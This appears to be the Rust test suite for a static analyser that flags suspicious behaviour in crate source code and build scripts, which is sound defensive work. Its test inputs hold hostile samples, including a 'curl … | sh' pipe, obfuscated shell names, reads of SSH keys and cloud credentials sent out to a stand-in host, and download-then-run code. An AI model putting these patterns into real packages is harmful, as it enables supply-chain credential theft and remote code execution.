//! The analyser on small sources: each fact kind, value flow and evasions, bad input.

use super::*;

fn facts_as(code: &str, role: Role) -> Vec<Fact> {
    let file = syn::parse_file(code).expect("test source parses");
    let src = Source {
        path: "src/lib.rs",
        role,
        text: Some(code),
        parsed: Some(&file),
        tests_live: false,
        generation: 0,
    };
    analyze(&[src], &["bin/helper".to_string()], Budget::default()).facts
}

fn facts(code: &str) -> Vec<Fact> {
    facts_as(code, Role::Library)
}

fn of(facts: &[Fact], kind: Kind) -> Vec<&Fact> {
    facts.iter().filter(|f| f.kind == kind).collect()
}

fn subjects(facts: &[Fact], kind: Kind) -> Vec<String> {
    of(facts, kind).iter().map(|f| f.subject.clone()).collect()
}

#[test]
fn exec_with_known_program_line_and_snippet() {
    let f = facts(
        "use std::process::Command;\nfn f() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"id\").spawn();\n}\n",
    );
    let e = of(&f, Kind::Exec);
    assert_eq!(e.len(), 1, "{f:#?}");
    assert_eq!(
        (e[0].subject.as_str(), e[0].class.as_str()),
        ("sh", "shell")
    );
    assert_eq!((e[0].line, e[0].func.as_str()), (3, "f"));
    assert!(e[0].snippet.starts_with("Command::new(\"sh\")"));
}

#[test]
fn aliased_command_is_followed() {
    let f = facts("use std::process::Command as C;\nfn f() { C::new(\"bash\").status(); }\n");
    assert_eq!(subjects(&f, Kind::Exec), vec!["bash"]);
}

#[test]
fn clap_command_is_not_a_process() {
    let f = facts("use clap::Command;\nfn f() { Command::new(\"myapp\").get_matches(); }\n");
    assert!(of(&f, Kind::Exec).is_empty(), "{f:#?}");
}

#[test]
fn program_from_byte_array_is_decoded() {
    let f = facts(
        "use std::process::Command;\nfn f() { let p = String::from_utf8(vec![115, 104]).unwrap(); Command::new(p).spawn(); }\n",
    );
    let e = of(&f, Kind::Exec);
    assert_eq!(e.len(), 1, "{f:#?}");
    assert_eq!(e[0].subject, "sh");
    assert_eq!(e[0].decoded.as_deref(), Some("byte array"));
    assert!(!of(&f, Kind::Decode).is_empty());
}

#[test]
fn program_from_xor_and_base64_is_decoded() {
    let xor = facts(
        "use std::process::Command;\nconst K: [u8; 2] = [0x31, 0x2a];\nfn f() { let p: String = K.iter().map(|b| (b ^ 0x42) as char).collect(); Command::new(&p).spawn(); }\n",
    );
    let e = of(&xor, Kind::Exec);
    assert_eq!(
        (e[0].subject.as_str(), e[0].decoded.as_deref()),
        ("sh", Some("xor")),
        "{xor:#?}"
    );
    let b64 = facts(
        "use std::process::Command;\nuse base64::Engine;\nfn f() { let p = String::from_utf8(base64::engine::general_purpose::STANDARD.decode(\"Y3VybA==\").unwrap()).unwrap(); Command::new(p).spawn(); }\n",
    );
    let e = of(&b64, Kind::Exec);
    assert_eq!(
        (e[0].subject.as_str(), e[0].class.as_str()),
        ("curl", "download-tool"),
        "{b64:#?}"
    );
    assert_eq!(e[0].decoded.as_deref(), Some("base64"));
}

#[test]
fn helper_function_wrapping_command_is_followed() {
    let f = facts(
        "use std::process::Command;\nfn run(p: &str) { Command::new(p).spawn(); }\nfn main() { run(\"powershell\"); }\n",
    );
    let e = of(&f, Kind::Exec);
    assert_eq!(e.len(), 1, "{f:#?}");
    assert_eq!(
        (e[0].subject.as_str(), e[0].func.as_str()),
        ("powershell", "main")
    );
}

#[test]
fn computed_program_is_a_fact() {
    let f = facts(
        "use std::process::Command;\nfn f(args: Vec<String>) { let p = args[0].clone(); Command::new(p).spawn(); }\n",
    );
    let e = of(&f, Kind::Exec);
    assert!(e[0].computed, "{f:#?}");
}

#[test]
fn env_names_from_array_iterated_in_a_loop() {
    let f = facts(
        "const NAMES: [&str; 2] = [\"GITHUB_TOKEN\", \"AWS_SECRET_ACCESS_KEY\"];\nfn f() { for n in NAMES { let _ = std::env::var(n); } }\n",
    );
    let mut s = subjects(&f, Kind::EnvRead);
    s.sort();
    assert_eq!(s, vec!["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"], "{f:#?}");
    let local = facts(
        "use std::env;\nfn f() { let v = [\"NPM_TOKEN\"]; for n in v.iter() { env::var(n).ok(); } }\n",
    );
    assert_eq!(
        subjects(&local, Kind::EnvRead),
        vec!["NPM_TOKEN"],
        "{local:#?}"
    );
}

#[test]
fn env_dump_and_aliased_var() {
    let f = facts(
        "use std::env::var as get;\nfn f() { get(\"CARGO_REGISTRY_TOKEN\").ok(); for (k, v) in std::env::vars() {} }\n",
    );
    assert_eq!(subjects(&f, Kind::EnvRead), vec!["CARGO_REGISTRY_TOKEN"]);
    assert_eq!(of(&f, Kind::EnvDump).len(), 1);
}

#[test]
fn network_std_crates_and_raw_libc() {
    let f = facts(
        "use std::net::UdpSocket;\nfn f() { let s = UdpSocket::bind(\"0.0.0.0:0\"); }\nfn g() { reqwest::blocking::get(\"https://x.invalid/a\"); }\nfn h() { unsafe { libc::connect(0, std::ptr::null(), 0); } }\n",
    );
    let mut classes: Vec<String> = of(&f, Kind::Network)
        .iter()
        .map(|n| n.class.clone())
        .collect();
    classes.sort();
    classes.dedup();
    assert_eq!(classes, vec!["http", "raw", "socket"], "{f:#?}");
    assert!(subjects(&f, Kind::Network).contains(&"https://x.invalid/a".to_string()));
}

#[test]
fn no_network_in_plain_code() {
    let f = facts(
        "pub fn add(a: u32, b: u32) -> u32 { a + b }\npub fn g(m: &std::collections::HashMap<String, u8>) { m.get(\"k\"); }\n",
    );
    assert!(f.is_empty(), "{f:#?}");
}

#[test]
fn credential_paths_and_writes_outside_out_dir() {
    let f = facts_as(
        "use std::fs;\nfn main() { let k = fs::read(\"/home/u/.ssh/id_rsa\"); fs::write(\"/tmp/x\", b\"1\"); let out = std::env::var(\"OUT_DIR\").unwrap(); fs::write(std::path::Path::new(&out).join(\"gen.rs\"), \"\"); }\n",
        Role::BuildScript,
    );
    assert_eq!(subjects(&f, Kind::SecretFile), vec!["/home/u/.ssh/id_rsa"]);
    assert_eq!(subjects(&f, Kind::FileWrite), vec!["/tmp/x"], "{f:#?}");
}

#[test]
fn download_then_execute_in_one_function() {
    let f = facts(
        "use std::process::Command;\nfn f() { let b = reqwest::blocking::get(\"https://x.invalid/p\").unwrap().bytes().unwrap(); std::fs::write(\"/tmp/p\", &b); Command::new(\"/tmp/p\").spawn(); }\n",
    );
    assert_eq!(of(&f, Kind::DownloadExec).len(), 1, "{f:#?}");
    let curl = facts(
        "use std::process::Command;\nfn f() { Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.invalid | sh\").spawn(); }\n",
    );
    assert_eq!(of(&curl, Kind::DownloadExec).len(), 1, "{curl:#?}");
    let probe = facts(
        "use std::process::Command;\nfn f() { Command::new(\"rustc\").arg(\"--version\").output(); }\n",
    );
    assert!(of(&probe, Kind::DownloadExec).is_empty());
}

#[test]
fn environment_gates_direct_early_return_and_through_helpers() {
    let direct = facts(
        "use std::process::Command;\nfn f() { if std::env::var(\"GITLAB_CI\").is_ok() { Command::new(\"sh\").spawn(); } }\n",
    );
    let e = of(&direct, Kind::Exec);
    assert!(
        e[0].gated
            .as_deref()
            .is_some_and(|g| g.contains("GITLAB_CI")),
        "{direct:#?}"
    );
    assert_eq!(of(&direct, Kind::EnvGate).len(), 1);
    let early = facts(
        "fn f() { if std::env::var(\"CI\").is_err() { return; }\n let _ = std::net::TcpStream::connect(\"1.2.3.4:80\"); }\n",
    );
    assert!(of(&early, Kind::Network)[0].gated.is_some(), "{early:#?}");
    let helper = facts(
        "use std::process::Command;\nfn payload() { Command::new(\"/tmp/x\").spawn(); }\npub fn new() { if let Ok(_) = std::env::var(\"GITLAB_CI\") { payload(); } }\n",
    );
    assert!(!of(&helper, Kind::EnvGate).is_empty(), "{helper:#?}");
    let method = facts(
        "fn f(url: &Url) { if let Some(username) = url.username() { let _ = reqwest::Client::new(); } }\n",
    );
    assert!(of(&method, Kind::EnvGate).is_empty(), "{method:#?}");
    let ungated = facts(
        "use std::process::Command;\nfn f() { if std::env::var(\"DEBUG\").is_ok() { Command::new(\"ls\").spawn(); } }\n",
    );
    assert!(of(&ungated, Kind::EnvGate).is_empty());
}

#[test]
fn key_search_endpoints_tls_off() {
    let f = facts(
        "fn f() { let re = \"[0-9a-fA-F]{64}\"; let hook = \"https://discord.com/api/webhooks/1/abc\"; let c = reqwest::Client::builder().danger_accept_invalid_certs(true); }\n",
    );
    assert_eq!(of(&f, Kind::KeySearch).len(), 1, "{f:#?}");
    assert_eq!(of(&f, Kind::Endpoint)[0].class, "Discord webhook");
    assert_eq!(of(&f, Kind::TlsOff).len(), 1);
    let safe = facts(
        "fn f() { let c = reqwest::Client::builder().danger_accept_invalid_certs(false); }\n",
    );
    assert!(of(&safe, Kind::TlsOff).is_empty());
}

#[test]
fn embedded_executables_and_high_entropy() {
    let mut elf = String::from("static P: [u8; 70] = [0x7f, 0x45, 0x4c, 0x46");
    for _ in 0..66 {
        elf.push_str(", 0");
    }
    elf.push_str("];\nstatic B: &[u8] = include_bytes!(\"payload.exe\");\nconst S: &str = \"aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Qgb2YgYmFzZTY0IGVuY29kaW5nIG9mIGEgbG9uZyBzdHJpbmc=\";\n");
    let f = facts(&elf);
    assert_eq!(of(&f, Kind::EmbeddedExe).len(), 2, "{f:#?}");
    assert_eq!(of(&f, Kind::HighEntropy).len(), 1);
    let magic = facts("pub const ELFMAG: &[u8; 5] = b\"\\x7FELF\\0\";\n");
    assert!(of(&magic, Kind::EmbeddedExe).is_empty(), "{magic:#?}");
}

#[test]
fn shipped_file_exec_from_build_script() {
    let f = facts_as(
        "use std::process::Command;\nfn main() { Command::new(\"./bin/helper\").status(); Command::new(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/bin/helper\")).status(); }\n",
        Role::BuildScript,
    );
    let classes: Vec<&str> = of(&f, Kind::Exec)
        .iter()
        .map(|e| e.class.as_str())
        .collect();
    assert_eq!(classes, vec!["shipped-file", "shipped-file"], "{f:#?}");
}

#[test]
fn rustc_probe_is_a_compiler() {
    let f = facts_as(
        "use std::process::Command;\nfn main() { let rustc = std::env::var(\"RUSTC\").unwrap(); Command::new(rustc).arg(\"--version\").output(); }\n",
        Role::BuildScript,
    );
    assert_eq!(of(&f, Kind::Exec)[0].class, "compiler", "{f:#?}");
}

#[test]
fn macro_rules_bodies_and_test_code() {
    let f = facts(
        "macro_rules! go { () => { std::process::Command::new(\"sh\").spawn() } }\n#[cfg(test)]\nmod tests { fn t() { std::process::Command::new(\"bash\"); } }\n",
    );
    assert_eq!(subjects(&f, Kind::Exec), vec!["sh"], "{f:#?}");
}

#[test]
fn lexer_reads_what_syn_cannot_parse() {
    let text = "fn f( { std::process::Command::new(\"curl\"); let h = \"https://api.telegram.org/botX/sendMessage\"; std::env::var(\"GITHUB_TOKEN\") \n";
    let src = Source {
        path: "src/broken.rs",
        role: Role::Library,
        text: Some(text),
        parsed: None,
        tests_live: false,
        generation: 0,
    };
    let b = analyze(&[src], &[], Budget::default());
    assert_eq!(b.lexed, vec!["src/broken.rs"]);
    let kinds: Vec<Kind> = b.facts.iter().map(|f| f.kind).collect();
    assert!(
        kinds.contains(&Kind::Exec)
            && kinds.contains(&Kind::Endpoint)
            && kinds.contains(&Kind::EnvRead),
        "{b:#?}"
    );
}

#[test]
fn bad_input_never_panics_and_says_what_was_not_read() {
    let deep = format!(
        "fn f() {{ {}1{} }}",
        "(".repeat(100_000),
        ")".repeat(100_000)
    );
    assert!(too_deep(&deep));
    let garbage = "\u{fffd}\u{0}\"unterminated r#\"x /* never closed";
    let srcs = [
        Source {
            path: "src/deep.rs",
            role: Role::Library,
            text: Some(&deep),
            parsed: None,
            tests_live: false,
            generation: 0,
        },
        Source {
            path: "src/garbage.rs",
            role: Role::Library,
            text: Some(garbage),
            parsed: None,
            tests_live: false,
            generation: 0,
        },
        Source {
            path: "src/huge.rs",
            role: Role::Library,
            text: None,
            parsed: None,
            tests_live: false,
            generation: 0,
        },
    ];
    let b = analyze(&srcs, &[], Budget::default());
    assert!(
        b.partial.iter().any(|p| p.contains("src/huge.rs")),
        "{b:#?}"
    );
    let tight = Budget {
        max_files: 1,
        ..Budget::default()
    };
    let b = analyze(&srcs, &[], tight);
    assert!(
        b.partial
            .iter()
            .any(|p| p.contains("2 more files not read")),
        "{b:#?}"
    );
    let slow = Budget {
        crate_time: std::time::Duration::ZERO,
        ..Budget::default()
    };
    assert!(analyze(&srcs, &[], slow).is_partial());
}

/// The facts of a fixture archive under `fixtures/crates`.
fn fixture(name: &str, version: &str) -> Behaviour {
    let path = format!(
        "{}/../../fixtures/crates/{name}-{version}.crate",
        env!("CARGO_MANIFEST_DIR")
    );
    let bytes = std::fs::read(path).expect("fixture archive");
    let archive =
        crate::sources::crate_archive::read(&bytes, name, version, None, Default::default());
    let a = crate::analysis::crate_analysis::analyze(&archive, "fixture");
    a.behaviour.expect("behaviour analysed")
}

#[test]
fn url_parse_build_script_leaks_secrets_over_dns() {
    let b = fixture("url-parse", "0.1.0");
    let build: Vec<&Fact> = b.phase(true).collect();
    assert!(
        build
            .iter()
            .any(|f| f.kind == Kind::EnvRead && f.subject.contains("TOKEN")),
        "{b:#?}"
    );
    assert!(build.iter().any(|f| f.kind == Kind::Network), "{b:#?}");
}

#[test]
fn rustdecimal_fixture_archive_has_no_behaviour() {
    // The fixture archive is a hostile archive (path traversal), its library empty.
    let b = fixture("rustdecimal", "1.23.1");
    assert!(b.facts.is_empty(), "{b:#?}");
    assert_eq!(b.files_read, 1);
}

#[test]
fn reversing_a_list_of_names_is_not_decoding() {
    let f = facts(
        "fn f(v: &[&str]) { for n in [\"CC\", \"HOST_CC\"].iter().rev() { let _ = std::env::var(n); } }\n",
    );
    assert!(!of(&f, Kind::EnvRead).is_empty(), "{f:#?}");
    assert!(f.iter().all(|x| x.decoded.is_none()), "{f:#?}");
}

#[test]
fn reversed_characters_are_decoded() {
    let f = facts(
        "use std::process::Command;\nfn f() { let p: String = \"hsab\".chars().rev().collect(); Command::new(p).spawn(); }\n",
    );
    let e = of(&f, Kind::Exec);
    assert_eq!(e.len(), 1, "{f:#?}");
    assert_eq!(
        (e[0].subject.as_str(), e[0].decoded.as_deref()),
        ("bash", Some("reversed"))
    );
}

#[test]
fn web_routes_are_not_credential_files() {
    let f = facts(
        "fn f() { let a = \"https://iamcredentials.googleapis.com/v1/x:signBlob\"; let b = \"/api/2.1/unity-catalog/temporary-table-credentials\"; let c = \"latest/meta-data/iam/security-credentials\"; let d = std::fs::read(\"/home/u/.aws/credentials\"); }\n",
    );
    assert_eq!(
        subjects(&f, Kind::SecretFile),
        vec!["/home/u/.aws/credentials"],
        "{f:#?}"
    );
}

#[test]
fn a_helper_that_sends_is_a_way_out_where_secrets_were_read() {
    let f = facts(
        "fn send(b: &[u8]) { let s = std::net::TcpStream::connect(\"203.0.113.9:80\"); }\nfn steal() { let k = std::fs::read(\"/home/u/.ssh/id_rsa\").unwrap(); send(&k); }\nfn quiet() { send(b\"hello\"); }\n",
    );
    let via: Vec<&Fact> = of(&f, Kind::Network)
        .into_iter()
        .filter(|x| x.class == "via-function")
        .collect();
    assert_eq!(via.len(), 1, "{f:#?}");
    assert_eq!(
        (via[0].func.as_str(), via[0].subject.as_str()),
        ("steal", "send()")
    );
}

#[test]
fn handing_the_environment_to_a_child_is_not_reading_it() {
    let f = facts_as(
        "use std::process::Command;\nfn main() { Command::new(\"python3\").envs(std::env::vars()).status(); for (k, v) in std::env::vars() { let _ = (k, v); } }\n",
        Role::BuildScript,
    );
    assert_eq!(of(&f, Kind::EnvDump).len(), 1, "{f:#?}");
}

#[test]
fn a_loop_over_a_constant_list_of_programs_runs_each() {
    let f = facts_as(
        "use std::process::Command;\nconst OPENERS: [&str; 2] = [\"xdg-open\", \"open\"];\nfn visit(p: &str) { for o in OPENERS.iter() { Command::new(o).arg(p).output(); } }\n",
        Role::ProcMacro,
    );
    let mut got: Vec<(String, String)> = of(&f, Kind::Exec)
        .iter()
        .map(|e| (e.subject.clone(), e.class.clone()))
        .collect();
    got.sort();
    assert_eq!(
        got,
        vec![
            ("open".to_string(), "opener".to_string()),
            ("xdg-open".to_string(), "opener".to_string())
        ]
    );
}

#[test]
fn a_file_written_then_given_to_a_shell_is_a_written_file_run() {
    let f = facts(
        "fn f(b: Vec<u8>) { let path = std::env::temp_dir().join(\"x\"); if std::fs::write(&path, b).is_ok() { std::process::Command::new(\"sh\").arg(&path).spawn(); } }\nfn g() { let src = std::env::temp_dir().join(\"a.c\"); std::fs::write(&src, \"\"); std::process::Command::new(\"cc\").arg(&src).status(); }\n",
    );
    let runs: Vec<&Fact> = of(&f, Kind::Exec)
        .into_iter()
        .filter(|e| e.class == "written-file")
        .collect();
    assert_eq!(runs.len(), 1, "{f:#?}");
    assert_eq!(runs[0].func, "f");
}

#[test]
fn open_options_for_writing_are_writes_and_toolchain_places_are_named() {
    let f = facts_as(
        "use std::fs::OpenOptions;\nfn main() { let home = std::env::var(\"HOME\").unwrap(); let p = std::path::PathBuf::from(home).join(\".rustup\"); let f = OpenOptions::new().write(true).create_new(true).open(&p); let r = OpenOptions::new().read(true).open(\"/etc/hosts\"); }\n",
        Role::BuildScript,
    );
    assert_eq!(of(&f, Kind::FileWrite).len(), 1, "{f:#?}");
    assert!(
        of(&f, Kind::SecretFile)
            .iter()
            .any(|s| s.class == "persistence"),
        "{f:#?}"
    );
}

#[test]
fn trait_default_methods_and_read_back_environments_are_seen() {
    let f = facts(
        "trait Layer { fn on_event(&self) { let t = std::env::var(\"GITHUB_TOKEN\"); } }\nfn g() { let mut c = std::process::Command::new(\"true\"); c.envs(std::env::vars()); for (k, v) in c.get_envs() {} }\n",
    );
    let reads = of(&f, Kind::EnvRead);
    assert_eq!(reads.len(), 1, "{f:#?}");
    assert_eq!(reads[0].func, "on_event");
    assert_eq!(subjects(&f, Kind::EnvDump), vec!["Command::get_envs()"]);
}

#[test]
fn the_same_read_in_two_functions_is_two_facts() {
    let f = facts(
        "fn configured() -> bool { std::env::var(\"GITHUB_TOKEN\").is_ok() }\nfn notify() { let t = std::env::var(\"GITHUB_TOKEN\"); }\n",
    );
    let mut funcs: Vec<String> = of(&f, Kind::EnvRead)
        .iter()
        .map(|x| x.func.clone())
        .collect();
    funcs.sort();
    assert_eq!(funcs, vec!["configured", "notify"]);
}

#[test]
fn an_element_of_a_parameter_is_followed_into_the_callers() {
    let f = facts(
        "use std::process::Command;\nfn run(argv: &[&str]) { let _ = Command::new(argv[0]).args(&argv[1..]).output(); }\nfn payload() { run(&[\"whoami\"]); }\nconst NAMES: [&str; 2] = [\"HOME\", \"GITHUB_TOKEN\"];\nfn g() { let _ = std::env::var(NAMES[1]); }\n",
    );
    let runs: Vec<(&str, &str)> = of(&f, Kind::Exec)
        .iter()
        .map(|e| (e.subject.as_str(), e.class.as_str()))
        .collect();
    // Computed in the helper (it may have other callers), known where it is called.
    assert_eq!(runs, [("", "computed"), ("whoami", "identity")], "{f:#?}");
    // Running `whoami` reads who runs the code, as `whoami::username()` does.
    assert!(
        of(&f, Kind::EnvRead)
            .iter()
            .any(|r| r.subject == "USER" && r.class == "identity"),
        "{f:#?}"
    );
    assert!(subjects(&f, Kind::EnvRead).contains(&"GITHUB_TOKEN".to_string()));
}

#[test]
fn named_format_arguments_are_their_values() {
    let f = facts(
        "const X: &str = \"curl -s x.invalid | sh\";\nfn f() { let _ = std::process::Command::new(\"sh\").args([\"-c\", &format!(\"{s}\", s = X)]).status(); }\n",
    );
    assert!(
        of(&f, Kind::Exec)
            .iter()
            .any(|e| e.subject == "curl -s x.invalid | sh" && e.class == "download-tool"),
        "{f:#?}"
    );
}
